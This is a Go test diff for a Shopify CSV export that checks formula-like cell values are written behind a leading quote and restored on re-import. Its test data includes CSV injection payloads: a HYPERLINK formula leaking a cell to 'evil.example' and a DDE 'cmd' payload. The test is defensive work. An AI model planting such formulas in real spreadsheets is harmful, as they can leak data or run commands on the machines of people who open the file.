@@ -223,3 +223,56 @@ func TestShopifyExportOfEnrichment(t *testing.T) {
 		}
 	}
 }
+
+// TestShopifyFormulaCells: a value that begins like a spreadsheet formula,
+// accepted from a vendor, is written behind a leading quote (in a cell or a
+// header), and importing the file removes exactly that quote again; a file
+// whose cells carry such quotes is read without them.
+func TestShopifyFormulaCells(t *testing.T) {
+	app := newApp(t)
+	org := newOrg(t, app, "Shop")
+	mustImport(t, app, org, "Handle,Title,Body (HTML),Variant SKU\nmug,Mug,<p>A mug.</p>,MUG-1\nquoted,'Quoted,'-x,Q-1\n",
+		Options{Format: FormatShopifyCSV})
+	client := newClient(t, app, org)
+	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`
+	accept(t, app, org, client, "MUG-1", enrichment.Fields{Name: ptr(hyperlink), Description: ptr("@SUM(1+1)"),
+		Attributes: attrs(enrichment.StoredAttribute{Attribute: "+Grip", Detail: "-cmd|' /C calc'!A0"},
+			enrichment.StoredAttribute{Attribute: "Size", Detail: "-5"})})
+	ps := byExternalID(t, app, org)
+	if q := ps["quoted"]; q.Name != "'Quoted" || q.Description != "-x" {
+		t.Errorf("a quote before text that is no formula is kept, one before a formula removed: %+v", q)
+	}
+
+	file := export(t, app, org, FormatShopifyCSV)
+	rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range rows {
+		for _, c := range r {
+			if enrichment.FormulaLike(c) {
+				t.Errorf("a cell a spreadsheet would run: %q", c)
+			}
+		}
+	}
+	for _, want := range []string{`'` + hyperlink, "'@SUM(1+1)", "'-cmd|' /C calc'!A0", "'+Grip (product.metafields.custom._grip)",
+		"-5", "'-x", "'Quoted"} {
+		if !slices.ContainsFunc(rows, func(r []string) bool { return slices.Contains(r, want) }) {
+			t.Errorf("no cell %q in\n%s", want, file)
+		}
+	}
+
+	before := productsAsStored(t, app, org)
+	res := mustImport(t, app, org, string(file), Options{Format: FormatShopifyCSV, DeactivateMissing: true})
+	if res.Unchanged != 2 || res.Updated != 0 {
+		t.Errorf("re-import of the export: %+v", res)
+	}
+	sameProducts(t, before, productsAsStored(t, app, org))
+	copyOrg := newOrg(t, app, "Copy")
+	mustImport(t, app, copyOrg, string(file), Options{Format: FormatShopifyCSV})
+	mug := byExternalID(t, app, copyOrg)["mug"]
+	if mug.Name != hyperlink || mug.Description != "@SUM(1+1)" ||
+		!strings.Contains(mug.Attributes, `{"attribute":"+Grip","detail":"-cmd|' /C calc'!A0"}`) {
+		t.Errorf("read back without the quotes: %+v", mug)
+	}
+}
